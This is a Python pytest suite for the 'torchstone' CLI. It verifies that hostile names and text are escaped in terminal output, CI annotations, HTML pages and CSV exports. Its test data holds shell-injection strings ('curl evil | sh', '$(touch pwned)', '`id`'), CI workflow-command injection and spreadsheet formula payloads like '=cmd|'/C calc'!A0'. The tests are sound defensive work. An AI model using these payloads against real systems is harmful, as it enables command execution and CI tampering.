"""Nothing that a file says reaches a terminal, a log or a report as something that is obeyed there."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from io import StringIO
from pathlib import Path
from xml.etree import ElementTree as ET

import pexpect
import pytest
from msgspec import structs

from conftest import Command, start_on_terminal
from hostile_files import EMOJI, HOSTILE, NAMES, forbidden, hostile_outcome, hostile_run
from profile_samples import profile, stacks
from torchstone.api.measuring.exports import write_outputs
from torchstone.cli.commands.measuring.pr_time import show_rows as write_pr_time
from torchstone.cli.commands.measuring.repro import show
from torchstone.cli.terminal.output import SafeStream, safe_streams
from torchstone.core.cautions import recorded
from torchstone.core.details.outcome_details import OutcomeDetails
from torchstone.core.records import Case, Measurement, Outcome, Run, Variant
from torchstone.core.run_file import encode_run

EVERYTHING = "\n".join(HOSTILE.values())
JUDGE = ("check", "new.jsonl", "--baseline", "base.jsonl", "--cross-environment")
COMPARE = ("compare", "base.jsonl", "new.jsonl", "--cross-environment")
STYLES = ("text", "markdown", "junit", "json", "github")
BAD_NAME = "r\x1b[2J\u202e$(touch pwned)'\n::error::x.csv"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with two hostile runs, whose file has a hostile name as well, and names that a terminal may show."""
    for name, passes in (("base.jsonl", True), ("new.jsonl", False)):
        (tmp_path / name).write_text(encode_run(hostile_run(passes=passes)))
    return tmp_path


def without_emoji(text: str) -> str:
    for each in EMOJI:
        text = text.replace(each, "")
    return text


def assert_safe(text: str, *, colors: bool = False, commands: bool = True) -> None:
    assert forbidden(without_emoji(text), colors=colors, commands=commands) == []


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("command", [JUDGE, COMPARE], ids=["check", "compare"])
def test_every_style_of_a_report_is_safe(
    command: tuple[str, ...], style: str, torchstone: Command, folder: Path
) -> None:
    ran = torchstone(*command, "--format", style)
    assert ran.code == 1
    assert_safe(ran.out, commands=style != "github")
    assert_safe(ran.err)
    for each in EMOJI:
        assert each in ran.out or style == "text"  # which names only some of the cases
    written = torchstone(*command, "--report", f"{style}=report.out")
    assert (folder / "report.out").read_text() == ran.out
    assert_safe(written.out)
    if style == "github":
        assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in ran.out.splitlines())
        assert "##[" not in ran.out
    if style == "junit":
        ET.fromstring(ran.out)  # noqa: S314  (our own report)
    if style == "json":
        assert set(NAMES) <= {row["name"] for row in json.loads(ran.out)["rows"]}


def test_annotations_escape_what_would_end_a_property_or_a_line(torchstone: Command, tmp_path: Path) -> None:
    (tmp_path / "e,v:i%l.csv").write_text("name,accuracy\n::a,pass\n")
    (tmp_path / "r.csv").write_text("dev,name,batch_size,accuracy\ncpu,::a,1,fail_accuracy\n")
    ran = torchstone("check", "r.csv", "--baseline", "e,v:i%l.csv", "--format", "github")
    red = ran.out.splitlines()[1]
    assert red.startswith("::error title=regression%3A %3A%3Aa,file=e%2Cv%3Ai%25l.csv,line=2::")


@pytest.mark.parametrize(
    "command",
    [
        ("report", "new.jsonl", "-o", "page.html"),
        ("report", "new.jsonl", "--baseline", "base.jsonl", "--cross-environment", "-o", "page.html"),
        ("compare", "base.jsonl", "new.jsonl", "--cross-environment", "-o", "page.html"),
        ("accept", "new.jsonl", "--baseline", "base.jsonl", "--dry-run", "--include-unstable"),
        ("export", "new.jsonl", "--to", "v3"),
        ("export", "new.jsonl", "--to", "run"),
        ("import", "new.jsonl"),
        ("explain", "base.jsonl", "new.jsonl"),
        ("repro", "new.jsonl", EVERYTHING),
        ("repro", "new.jsonl", "*"),
        ("repro", "new.jsonl", "groups of ##"),
        ("check", BAD_NAME, "--baseline", "base.jsonl"),
        ("check", "new.jsonl", "--baseline", BAD_NAME),
        ("check", "new.jsonl", "--only", EVERYTHING.replace("\x00", "")),
        ("check", "new.jsonl", "--rule", BAD_NAME),
        ("compare", BAD_NAME, "new.jsonl"),
        ("list", BAD_NAME),
        ("list", BAD_NAME, "--json"),
        ("run", BAD_NAME),
        ("run", "smoke", f"--{BAD_NAME}"),
        ("run", "--resume", BAD_NAME),
        ("export", "new.jsonl", "--to", BAD_NAME),
        ("quarantine", "add", BAD_NAME, "--reason", "x"),
        ("quarantine", "remove", BAD_NAME),
        (BAD_NAME,),
    ],
    ids=lambda command: " ".join(map(ascii, command))[:60],
)
def test_every_command_is_safe(command: tuple[str, ...], torchstone: Command, folder: Path) -> None:
    ran = torchstone(*command)
    assert ran.out or ran.err
    assert_safe(ran.out)
    assert_safe(ran.err)
    page = folder / "page.html"
    if page.exists():
        assert_safe(page.read_text(), commands=False)
        assert all(each in page.read_text() for each in EMOJI)


@pytest.mark.parametrize("style", ["text", "markdown", "json", "html"])
def test_an_explanation_is_safe(style: str, torchstone: Command, folder: Path) -> None:
    case = Case("::error::x", "instructions", "smoke")
    for name, cost in (("base.jsonl", 100), ("new.jsonl", 900)):
        found = profile(
            [["::error::phase ##[x]", "##[group]library", "::error::function", cost]],
            stacks=stacks(["::root", cost, [["##[frame]", cost, []]]]),
        )
        outcome = Outcome(
            case, "pass", details=OutcomeDetails(profile=found), cautions=(recorded(EVERYTHING),)
        )
        run = hostile_run(passes=name == "base.jsonl")
        run = structs.replace(run, plan=(case,), outcomes=(outcome,))
        (folder / name).write_text(encode_run(run))
    output = ("-o", "page.html") if style == "html" else ("--format", style)
    for one in ((), (case.id,)):
        ran = torchstone("explain", "base.jsonl", "new.jsonl", *one, *output)
        assert ran.code == 0, ran.err
        assert_safe(ran.out)
        assert_safe(ran.err)
    if style in {"text", "markdown"}:
        torchstone("explain", "base.jsonl", "new.jsonl", case.id, "-o", "told.md")
        assert_safe((folder / "told.md").read_text())


def test_a_file_with_a_hostile_name_is_named_safely(torchstone: Command, tmp_path: Path) -> None:
    (tmp_path / BAD_NAME.replace("/", "")).write_text(
        "dev,name,batch_size,accuracy\ncpu,a,1,fail_accuracy\ncpu,\u202eb,1,pass\n"
    )
    assert_safe(torchstone("check", BAD_NAME, "--baseline", BAD_NAME).err)
    (tmp_path / BAD_NAME).write_text("dev,name,batch_size,accuracy\ncpu,a,1,fail_accuracy\n")
    (tmp_path / "e.csv").write_text("name,accuracy\na,pass\n")
    for style in STYLES:
        ran = torchstone("check", BAD_NAME, "--baseline", "e.csv", "--format", style)
        assert ran.code == 1
        assert_safe(ran.out, commands=style != "github")
    commands = json.loads(torchstone("check", BAD_NAME, "--baseline", "e.csv", "--format", "json").out)
    assert BAD_NAME in pasted(commands["rows"][0]["reproduce"], tmp_path)


def pasted(command: str, folder: Path) -> list[str]:
    """The words that a real shell gives to torchstone when a command is pasted into it."""
    script = "torchstone() { printf '%s\\0' \"$@\"; }\n" + command + "\n"
    done = subprocess.run(["bash"], input=script, cwd=folder, capture_output=True, text=True, check=True)
    assert not (folder / "pwned").exists()
    return done.stdout.split("\0")[:-1]


def test_suggested_commands_mean_what_they_say(torchstone: Command, folder: Path) -> None:
    rows = json.loads(torchstone(*JUDGE, "--format", "json").out)["rows"]
    assert len(rows) >= len(NAMES)
    for row in rows:
        commands = [row["reproduce"], *([row["accept"]] if row["accept"] else [])]
        for command in commands:
            assert pasted(command, folder)[-2:] == ["--only", row["name"]]
    wrapped = torchstone(*JUDGE).out
    command, *_ = re.split(r"\n  (?:accept|next step)", wrapped.partition("  reproduce  ")[2])
    assert pasted(command, folder)[0] == "check"


def test_a_command_that_a_file_suggests_is_shown_only_if_it_is_one_of_ours(
    torchstone: Command, tmp_path: Path
) -> None:
    said = {
        "a": "torchstone repro run.jsonl 'smoke::a[device=cpu]::performance'",
        "b": "torchstone repro x; curl evil | sh",
        "c": "torchstone repro $(touch pwned)",
        "d": "curl evil",
        "e": "python benchmarks/dynamo/torchbench.py --performance --only e",
        "f": "python -c 'import os'",
        "g": "torchstone repro `id`",
        "h": "torchstone repro x > ~/.bashrc",
        "i": "torchstone repro /tmp/evil.jsonl mlp --trust",
        "j": "torchstone repro --trust /tmp/evil.jsonl",
        "k": "torchstone repro /tmp/evil.jsonl $'\\x2d-trust'",
        "l": "torchstone repro /tmp/evil.jsonl $'\\055-trust'",
        "m": "torchstone repro '--trust' mlp",
        "n": "torchstone run /tmp/evil/bench.py",
        "o": "torchstone repro $'/tmp/a \\x1b' $'o\\x1b\\\\'",
        "p": "python benchmarks/dynamo/torchbench.py --trust",
        "q": "torchstone repro ''--trust mlp",
    }
    cases = {name: Case(name, "performance", "smoke") for name in said}
    for file, value in (("base.jsonl", 2.0), ("new.jsonl", 1.0)):
        outcomes = tuple(
            Outcome(cases[name], "pass", (Measurement("speedup", (value,)),), repro=command)
            for name, command in said.items()
        )
        (tmp_path / file).write_text(encode_run(Run("r", tuple(cases.values()), outcomes)))
    rows = json.loads(torchstone(*JUDGE, "--format", "json").out)["rows"]
    shown = {row["name"]: row["reproduce"] for row in rows}
    assert {name for name, command in shown.items() if command == said[name]} == {"a", "e", "o"}
    assert shown["b"].startswith("torchstone check ")
    torchstone("report", "new.jsonl", "-o", "page.html")
    assert "curl" not in (tmp_path / "page.html").read_text()


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_repro_shows_is_safe(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    with safe_streams():
        show(hostile_outcome("mlp", text, passes=False))
        show(hostile_outcome("mlp", text, passes=True))
    out, err = capsys.readouterr()
    assert_safe(out)
    assert_safe(err)


class TestStream:
    def written(self, *pieces: str, **how: str) -> str:
        text = StringIO()
        stream = SafeStream(text, **how)
        for piece in pieces:
            stream.write(piece)
        return text.getvalue()

    @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
    def test_whatever_is_written_is_safe(self, text: str) -> None:
        for pieces in ((text,), tuple(text), (text[:3], text[3:]), ("  ", text), ("a ", text, "\n", text)):
            assert_safe(self.written(*pieces))

    def test_a_command_in_pieces_is_none_either(self) -> None:
        assert self.written(" ", ":", ":error::x\n") == " :\\x3aerror::x\n"
        assert self.written("a #", "#", "[group]") == "a ##\\x5bgroup]"
        assert self.written("##v", "so[x]") == "##vso\\x5bx]"

    def test_plain_text_and_ids_stay_as_they_are(self) -> None:
        text = f"smoke::mlp[device=cpu]::performance\n\tüber ±1 … # ## a[0] {' '.join(EMOJI)}\n"
        assert self.written(text) == text
        assert self.written(text[:9], text[9:40], text[40:]) == text

    def test_there_is_no_way_around(self) -> None:
        with pytest.raises(AttributeError):
            SafeStream(sys.__stdout__ or sys.stdout).buffer  # noqa: B018


ON_TERMINALS: dict[str, tuple[str, ...]] = {
    "check": JUDGE,
    "compare": COMPARE,
    "accept": ("accept", "new.jsonl", "--baseline", "base.jsonl", "--dry-run"),
    "report": ("report", "new.jsonl", "-o", "page.html"),
    "export": ("export", "new.jsonl", "--to", "performance", "--lossy"),
    "import": ("import", "new.jsonl"),
    "repro": ("repro", "new.jsonl", "groups\x1b[35;7m"),
    "usage": ("check", "--\x1b[35;7m\u202e"),
}


@pytest.mark.parametrize("command", ON_TERMINALS.values(), ids=ON_TERMINALS)
def test_on_a_real_terminal_only_our_own_colors_come_out(command: tuple[str, ...], folder: Path) -> None:
    child = start_on_terminal(folder, *command)
    child.expect(pexpect.EOF)
    child.close()
    shown = str(child.before).replace("\r\n", "\n")
    assert shown
    assert_safe(shown, colors=True)
    if command in {JUDGE, COMPARE}:
        assert "\x1b[" in shown  # colors there are


@pytest.mark.parametrize(
    "command", [JUDGE, COMPARE, ON_TERMINALS["import"]], ids=["check", "compare", "import"]
)
def test_through_a_pipe_no_escape_comes_out(command: tuple[str, ...], folder: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "torchstone", *command], cwd=folder, capture_output=True, check=False
    )
    assert done.stdout
    assert b"\x1b" not in done.stdout + done.stderr
    assert_safe(done.stdout.decode())
    assert_safe(done.stderr.decode())


BENCH = """
import torch, torchstone

@torchstone.benchmark
def \N{LATIN SMALL LETTER E WITH ACUTE}vil():
    print("{log}", flush=True)
    raise RuntimeError("{log}")
"""


@pytest.mark.slow
@pytest.mark.parametrize("on_terminal", [False, True], ids=["pipe", "terminal"])
def test_a_benchmark_that_prints_and_raises_hostile_text(tmp_path: Path, on_terminal: bool) -> None:
    log = EVERYTHING.encode("unicode_escape").decode().replace('"', '\\"')
    (tmp_path / "bench_evil.py").write_text(BENCH.replace("{log}", log))
    run = ("run", "bench_evil.py", "--backend", "eager", "--probe", "performance", "--mode", "inference", "-o", "run.jsonl")  # fmt: skip
    for command in (run, ("repro", "run.jsonl", "évil")):
        if on_terminal:
            child = start_on_terminal(tmp_path, *command)
            child.expect(pexpect.EOF, timeout=120)
            child.close()
            shown, code = str(child.before), child.exitstatus
            for own in ("\r\n", "\r", "\x1b[2K", "\x1b[1A", "\x1b[?25l", "\x1b[?25h", "\x1b[K"):
                shown = shown.replace(own, "\n" if own == "\r\n" else "")
        else:
            done = subprocess.run([sys.executable, "-m", "torchstone", *command], cwd=tmp_path, capture_output=True, check=False)  # fmt: skip
            shown, code = (done.stdout + done.stderr).decode(), done.returncode
        assert code == 1
        assert "\\x1b" in shown or "\\u202e" in shown
        assert_safe(shown, colors=on_terminal)


class TestCells:
    HEADER = "dev,name,batch_size,speedup,abs_latency\n"

    @pytest.fixture
    def run_file(self, tmp_path: Path) -> str:
        names = [*NAMES, " =1+1".strip(), "+1", "-1.5", "'=x", "resnet50", "\uff1d1"]
        cases = [Case(name, "performance", variant=Variant("cpu")) for name in names]
        outcomes = tuple(Outcome(case, "pass", (Measurement("speedup", (1.5,)),)) for case in cases)
        (tmp_path / "run.jsonl").write_text(encode_run(Run("r", tuple(cases), outcomes)))
        return "run.jsonl"

    def names(self, text: str, column: int) -> list[str]:
        return [row[column] for row in csv.reader(StringIO(text))]

    @pytest.mark.parametrize(("kind", "column"), [("performance", 1), ("expected", 0)])
    def test_a_spreadsheet_executes_nothing(
        self, kind: str, column: int, run_file: str, torchstone: Command, tmp_path: Path
    ) -> None:
        ran = torchstone("export", run_file, "--to", kind, "--lossy", "--output", "out.csv")
        assert ran.code == 0
        cells = self.names((tmp_path / "out.csv").read_text(), column)
        assert not any(cell.startswith(tuple("=@\uff1d")) or cell in {"-2+3"} for cell in cells)
        assert {"'=cmd|'/C calc'!A0", "'-2+3", "'@SUM(1)", "-1.5", "+1", "resnet50", "''=x"} <= set(cells)
        back = torchstone("export", "out.csv", "--to", kind, "--lossy", "--raw-cells")
        raw = torchstone("export", run_file, "--to", kind, "--lossy", "--raw-cells")
        assert set(NAMES) < set(self.names(raw.out, column))
        assert self.names(back.out, column) == self.names(raw.out, column)

    @pytest.mark.parametrize(("raw", "shown"), [(False, "'=a"), (True, "=a")])
    def test_files_beside_a_run_are_defused_too(self, raw: bool, shown: str, tmp_path: Path) -> None:
        case = Case("=a", "performance", "smoke", Variant("cpu", "inductor", "inference", "float32"))
        run = Run("r", (case,), (Outcome(case, "pass", (Measurement("speedup", (1.5,)),)),))
        told: list[str] = []
        write_outputs(run, str(tmp_path), None, told.append, raw_cells=raw)
        (path,) = tmp_path.glob("*.csv")
        assert self.names(path.read_text(), 1) == ["name", shown]

    @pytest.mark.parametrize(("raw", "shown"), [(False, "'=a"), (True, "=a")])
    def test_rows_of_pr_time_are_defused_too(
        self, raw: bool, shown: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        outcome = Outcome(Case("=a", "instructions"), "pass", (Measurement("instruction_count", (5,)),))
        write_pr_time([outcome], None, raw_cells=raw)
        write_pr_time([outcome], str(tmp_path / "rows.csv"), raw_cells=raw)
        row = f"{shown},instruction_count,5\n"
        assert capsys.readouterr().out.startswith(row)
        assert (tmp_path / "rows.csv").read_text() == row

    def test_raw_cells_are_for_tables(self, run_file: str, torchstone: Command) -> None:
        ran = torchstone("export", run_file, "--to", "v3", "--raw-cells")
        assert (ran.code, "--raw-cells applies only to CSV formats" in ran.err) == (2, True)
        ran = torchstone("run", "smoke", "--raw-cells")
        assert (ran.code, "--raw-cells requires --csv" in ran.err) == (2, True)

    def test_a_defused_file_is_judged_like_the_original(self, torchstone: Command, tmp_path: Path) -> None:
        (tmp_path / "r.csv").write_text(f"{self.HEADER}cpu,=a,1,2.0,1.0\ncpu,-b,1,2.0,1.0\n")
        torchstone("export", "r.csv", "--to", "performance", "--output", "safe.csv")
        assert "'=a" in (tmp_path / "safe.csv").read_text()
        for one, other in (("r.csv", "safe.csv"), ("safe.csv", "r.csv")):
            assert "PASS: 2 cases judged" in torchstone("check", one, "--baseline", other).out

    def test_accept_leaves_cells_as_they_are(self, torchstone: Command, tmp_path: Path) -> None:
        (tmp_path / "e.csv").write_text("name,speedup\n=a,1.0\n'=b,1.0\n-c,1.0\n")
        (tmp_path / "r.csv").write_text(
            f"{self.HEADER}cpu,=a,1,2.0,1.0\ncpu,-c,1,2.0,1.0\ncpu,=d,1,2.0,1.0\n"
        )
        ran = torchstone("accept", "r.csv", "--baseline", "e.csv", "--add-new", "--yes")
        assert ran.code == 0
        changed = (tmp_path / "e.csv").read_text().splitlines()
        assert [line.split(",")[0] for line in changed] == ["name", "=a", "'=b", "-c", "=d"]
        assert changed[1] != "=a,1.0"

    def test_no_row_starts_with_a_command(self, torchstone: Command, tmp_path: Path) -> None:
        (tmp_path / "r.csv").write_text("::error::x,instruction_count,5\n")
        ran = torchstone("export", "r.csv", "--to", "pr-time")
        assert ran.out == '"::error::x",instruction_count,5\n'


class TestData:
    """What goes to other programs has the bytes that --output writes; only terminals and the logs of CI services get escapes."""

    EXPORT = ("export", "r.csv", "--to", "performance", "--lossy")
    NAMES = (
        "a ##[group]",
        "##vso[task.setvariable variable=PATH]x",
        "\xe9\u4e2d",
        "=1+1",
    )

    @pytest.fixture
    def exact(self, tmp_path: Path, torchstone: Command) -> bytes:
        rows = "".join(f"cpu,{name},1,2.0,1.0\n" for name in self.NAMES)
        (tmp_path / "r.csv").write_text(f"{TestCells.HEADER}{rows}", encoding="utf-8")
        assert torchstone(*self.EXPORT, "-o", "out.csv").code == 0
        written = (tmp_path / "out.csv").read_bytes()
        assert all(name.encode() in written for name in self.NAMES)
        return written

    def piped(self, folder: Path, *words: str, **variables: str) -> subprocess.CompletedProcess[bytes]:
        """A command whose output goes into pipes, outside of CI unless the variables say otherwise."""
        outside = {
            name: value for name, value in os.environ.items() if name not in {"GITHUB_ACTIONS", "TF_BUILD"}
        }
        command = [sys.executable, "-m", "torchstone", *words]
        return subprocess.run(command, cwd=folder, env=outside | variables, capture_output=True, check=True)

    def test_a_pipe_gets_the_bytes_of_a_file(self, exact: bytes, tmp_path: Path) -> None:
        for variables in ({}, {"PYTHONIOENCODING": "ascii"}, {"PYTHONIOENCODING": "utf-16"}):
            done = self.piped(tmp_path, *self.EXPORT, **variables)
            assert (done.stdout, done.stderr) == (exact, b"")

    @pytest.mark.parametrize("command", [("import", "r.csv"), ("export", "r.csv", "--to", "v3", "--lossy")])
    def test_so_do_other_formats(self, command: tuple[str, ...], exact: bytes, tmp_path: Path) -> None:
        assert exact
        printed = self.piped(tmp_path, *command).stdout
        self.piped(tmp_path, *command, "-o", "out.txt")
        assert printed == (tmp_path / "out.txt").read_bytes()

    @pytest.mark.parametrize("service", ["GITHUB_ACTIONS", "TF_BUILD"])
    def test_a_pipe_in_a_ci_job_may_be_its_log(self, service: str, exact: bytes, tmp_path: Path) -> None:
        done = self.piped(tmp_path, *self.EXPORT, **{service: "true"})
        assert_safe(done.stdout.decode())
        assert b"a ##\\x5bgroup]" in done.stdout
        assert b"caution: the output contains text that the CI service would interpret" in done.stderr
        assert self.piped(tmp_path, *self.EXPORT, "--raw-cells", **{service: "true"}).stdout == exact.replace(
            b"'=", b"="
        )
        with (tmp_path / "redirected.csv").open("wb") as file:
            command = [sys.executable, "-m", "torchstone", *self.EXPORT]
            subprocess.run(command, cwd=tmp_path, env=os.environ | {service: "true"}, stdout=file, check=True)
        assert (tmp_path / "redirected.csv").read_bytes() == exact

    def test_a_harmless_table_in_a_ci_job_needs_no_caution(self, tmp_path: Path) -> None:
        (tmp_path / "r.csv").write_text(f"{TestCells.HEADER}cpu,resnet50,1,2.0,1.0\n")
        assert self.piped(tmp_path, *self.EXPORT, TF_BUILD="True").stderr == b""

    def test_a_page_can_go_to_standard_output(self, exact: bytes, tmp_path: Path) -> None:
        assert exact
        done = self.piped(tmp_path, "report", "r.csv", "-o", "-")
        self.piped(tmp_path, "report", "r.csv", "-o", "page.html")
        page = (tmp_path / "page.html").read_text()
        assert done.stdout.decode() == page.replace("page.html", "-")
        assert b"wrote 4 cases to standard output" in done.stderr
        assert not (tmp_path / "-").exists()


def test_joined_emoji_are_names_like_any_other(torchstone: Command, tmp_path: Path) -> None:
    rows = "".join(f"cpu,{name},1,fail_accuracy\n" for name in EMOJI)
    (tmp_path / "r.csv").write_text(f"dev,name,batch_size,accuracy\n{rows}")
    (tmp_path / "e.csv").write_text("name,accuracy\n" + "".join(f"{name},pass\n" for name in EMOJI))
    assert torchstone("import", "r.csv", "--output", "r.jsonl").code == 0
    for style in STYLES:
        shown = torchstone("check", "r.jsonl", "--baseline", "e.csv", "--format", style).out
        assert all(name in shown for name in EMOJI)
